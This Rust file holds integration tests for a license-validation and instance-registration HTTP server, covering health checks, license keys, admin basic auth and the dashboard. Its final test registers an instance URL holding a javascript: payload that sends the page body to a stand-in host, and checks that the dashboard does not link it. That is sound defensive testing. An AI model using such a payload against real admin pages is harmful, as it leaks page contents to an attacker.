#![cfg(feature = "server")]

//! Integration tests for the HTTP endpoints.

use std::sync::Arc;

use axum::{
    body::Body,
    http::{header, Request, StatusCode},
    Router,
};
use base64::{engine::general_purpose::STANDARD, Engine};
use serde_json::{json, Value};
use tower::ServiceExt;

use central::config::CentralConfig;
use central::database::Database;
use central::keygen::KeyGenerator;
use central::license::{LicenseStatus, Plan};
use central::logging::REQUEST_ID_HEADER;
use central::server::{build_router, AppState};

/// Helper to create a test database and app state.
async fn setup_test_app() -> AppState {
    let db = Database::connect("sqlite::memory:")
        .await
        .expect("failed to create database");

    let mut config = CentralConfig::default();
    config.admin.username = "admin".to_string();
    config.admin.password = "s3cret".to_string();
    config.release.latest_version = "1.0.0".to_string();

    AppState::new(Arc::new(db), config)
}

/// Helper to make a request to the app and decode a JSON body if there is one.
async fn json_request(
    app: Router,
    method: &str,
    uri: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let body_bytes = body
        .map(|v| serde_json::to_vec(&v).unwrap())
        .unwrap_or_default();

    let request = Request::builder()
        .method(method)
        .uri(uri)
        .header("Content-Type", "application/json")
        .body(Body::from(body_bytes))
        .unwrap();

    let response = app.oneshot(request).await.unwrap();
    let status = response.status();

    let body_bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    let body: Value = serde_json::from_slice(&body_bytes).unwrap_or(json!({}));

    (status, body)
}

fn register_body(customer_id: &str, version: &str) -> Value {
    json!({
        "customer_id": customer_id,
        "version": version,
        "url": format!("https://{customer_id}.example"),
        "health": "healthy",
        "timestamp": "2026-01-20T10:00:00",
        "total_users": 12,
        "total_messages": 3400
    })
}

fn validate_body(license_key: &str, customer_id: &str) -> Value {
    json!({
        "license_key": license_key,
        "customer_id": customer_id,
        "app_version": "1.0.0",
        "timestamp": "2026-01-20T10:00:00"
    })
}

fn basic_auth(username: &str, password: &str) -> String {
    format!("Basic {}", STANDARD.encode(format!("{username}:{password}")))
}

#[tokio::test]
async fn health_reports_service_name() {
    let app = build_router(setup_test_app().await);
    let (status, body) = json_request(app, "GET", "/health", None).await;

    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "status": "healthy", "service": "central-api" }));
}

#[tokio::test]
async fn root_lists_endpoints() {
    let app = build_router(setup_test_app().await);
    let (status, body) = json_request(app, "GET", "/", None).await;

    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["service"], "HushLane Central API");
    assert_eq!(body["version"], "1.0.0");
    assert_eq!(body["endpoints"]["register"], "/instances/register");
}

#[tokio::test]
async fn latest_version_comes_from_config() {
    let app = build_router(setup_test_app().await);
    let (status, body) = json_request(app, "GET", "/latest-version", None).await;

    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["version"], "1.0.0");
    assert_eq!(body["critical"], false);
    assert!(body["changelog_url"].as_str().is_some());
}

#[tokio::test]
async fn register_records_instance() {
    let state = setup_test_app().await;
    let db = state.db.clone();

    let (status, body) = json_request(
        build_router(state.clone()),
        "POST",
        "/instances/register",
        Some(register_body("acme", "0.9.0")),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "status": "success", "message": "Instance registered" }));

    let (status, _) = json_request(
        build_router(state),
        "POST",
        "/instances/register",
        Some(register_body("acme", "1.0.0")),
    )
    .await;
    assert_eq!(status, StatusCode::OK);

    let instance = db.get_instance("acme").await.unwrap().unwrap();
    assert_eq!(instance.version, "1.0.0");
    assert_eq!(instance.total_messages, 3400);
    assert_eq!(db.count_version_history().await.unwrap(), 1);
}

#[tokio::test]
async fn register_with_empty_customer_is_bad_request() {
    let app = build_router(setup_test_app().await);
    let (status, body) = json_request(
        app,
        "POST",
        "/instances/register",
        Some(register_body("", "1.0.0")),
    )
    .await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["status"], "error");
}

#[tokio::test]
async fn validate_accepts_matching_license() {
    let state = setup_test_app().await;
    let license = KeyGenerator::new(state.db.clone())
        .create_license("acme", "Acme Corp", Plan::Enterprise, Some(12))
        .await
        .unwrap();

    let (status, body) = json_request(
        build_router(state),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "acme")),
    )
    .await;

    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["valid"], true);
    assert_eq!(body["customer_name"], "Acme Corp");
    assert_eq!(body["plan"], "enterprise");
    assert_eq!(body["message"], "License valid");
    assert!(body["expires_at"].is_string());
}

#[tokio::test]
async fn validate_perpetual_license_has_null_expiry() {
    let state = setup_test_app().await;
    let license = KeyGenerator::new(state.db.clone())
        .create_license("acme", "Acme Corp", Plan::Standard, None)
        .await
        .unwrap();

    let (status, body) = json_request(
        build_router(state),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "acme")),
    )
    .await;

    assert_eq!(status, StatusCode::OK);
    assert!(body["expires_at"].is_null());
}

#[tokio::test]
async fn validate_rejects_other_customer() {
    let state = setup_test_app().await;
    let license = KeyGenerator::new(state.db.clone())
        .create_license("acme", "Acme Corp", Plan::Standard, Some(12))
        .await
        .unwrap();

    let (status, body) = json_request(
        build_router(state),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "globex")),
    )
    .await;

    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body["valid"], false);
    assert_eq!(body["error"], "CUSTOMER_MISMATCH");
}

#[tokio::test]
async fn validate_rejects_unknown_and_suspended_keys() {
    let state = setup_test_app().await;
    let generator = KeyGenerator::new(state.db.clone());
    let license = generator
        .create_license("acme", "Acme Corp", Plan::Standard, Some(12))
        .await
        .unwrap();
    generator
        .set_status(&license.license_key, LicenseStatus::Suspended)
        .await
        .unwrap();

    let (status, body) = json_request(
        build_router(state.clone()),
        "POST",
        "/license/validate",
        Some(validate_body("HL-0000-0000-0000-0000", "acme")),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body["error"], "INVALID_LICENSE");

    let (status, body) = json_request(
        build_router(state),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "acme")),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body["error"], "LICENSE_INACTIVE");
    assert_eq!(body["message"], "License status: suspended");
}

#[tokio::test]
async fn admin_requires_credentials() {
    let app = build_router(setup_test_app().await);
    let response = app
        .oneshot(Request::builder().uri("/admin").body(Body::empty()).unwrap())
        .await
        .unwrap();

    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        response.headers().get(header::WWW_AUTHENTICATE).unwrap(),
        "Basic"
    );
}

#[tokio::test]
async fn admin_rejects_wrong_password() {
    let app = build_router(setup_test_app().await);
    let response = app
        .oneshot(
            Request::builder()
                .uri("/admin")
                .header(header::AUTHORIZATION, basic_auth("admin", "wrong"))
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();

    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn admin_renders_dashboard_with_credentials() {
    let state = setup_test_app().await;
    json_request(
        build_router(state.clone()),
        "POST",
        "/instances/register",
        Some(register_body("acme", "0.9.0")),
    )
    .await;

    let response = build_router(state)
        .oneshot(
            Request::builder()
                .uri("/admin")
                .header(header::AUTHORIZATION, basic_auth("admin", "s3cret"))
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();

    assert_eq!(response.status(), StatusCode::OK);
    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    let html = String::from_utf8(body.to_vec()).unwrap();
    assert!(html.contains("acme"));
    assert!(html.contains("class=\"outdated\""));
}

#[tokio::test]
async fn responses_carry_request_id() {
    let app = build_router(setup_test_app().await);
    let response = app
        .oneshot(Request::builder().uri("/health").body(Body::empty()).unwrap())
        .await
        .unwrap();

    let id = response
        .headers()
        .get(REQUEST_ID_HEADER)
        .expect("request id header")
        .to_str()
        .unwrap();
    assert!(uuid::Uuid::parse_str(id).is_ok());
}

#[tokio::test]
async fn acme_license_and_upgrade_scenario() {
    let state = setup_test_app().await;

    let license = KeyGenerator::new(state.db.clone())
        .create_license("acme", "Acme Corp", Plan::Standard, Some(12))
        .await
        .unwrap();
    assert!(central::license_key::validate_license_key_format(
        &license.license_key
    ));

    let (status, body) = json_request(
        build_router(state.clone()),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "acme")),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["valid"], true);
    assert_eq!(body["plan"], "standard");

    let (status, body) = json_request(
        build_router(state.clone()),
        "POST",
        "/license/validate",
        Some(validate_body(&license.license_key, "other")),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body["error"], "CUSTOMER_MISMATCH");

    for version in ["1.0.0", "1.1.0"] {
        let (status, _) = json_request(
            build_router(state.clone()),
            "POST",
            "/instances/register",
            Some(register_body("acme", version)),
        )
        .await;
        assert_eq!(status, StatusCode::OK);
    }

    let history = state.db.version_history_for("acme").await.unwrap();
    assert_eq!(history.len(), 1);
    assert_eq!(history[0].old_version, "1.0.0");
    assert_eq!(history[0].new_version, "1.1.0");

    let data = state.reporter.dashboard_data().await.unwrap();
    assert_eq!(data.outdated_count, 1);
}

#[tokio::test]
async fn dashboard_does_not_link_script_urls() {
    let state = setup_test_app().await;
    let mut body = register_body("mallory", "1.0.0");
    body["url"] = json!("javascript:fetch('//x.example/?'+document.body.innerHTML)");
    let (status, _) = json_request(
        build_router(state.clone()),
        "POST",
        "/instances/register",
        Some(body),
    )
    .await;
    assert_eq!(status, StatusCode::OK);

    let response = build_router(state)
        .oneshot(
            Request::builder()
                .uri("/admin")
                .header(header::AUTHORIZATION, basic_auth("admin", "s3cret"))
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    let html = String::from_utf8(body.to_vec()).unwrap();

    assert!(html.contains("javascript:fetch("));
    assert!(!html.contains("href=\"javascript:"));
}
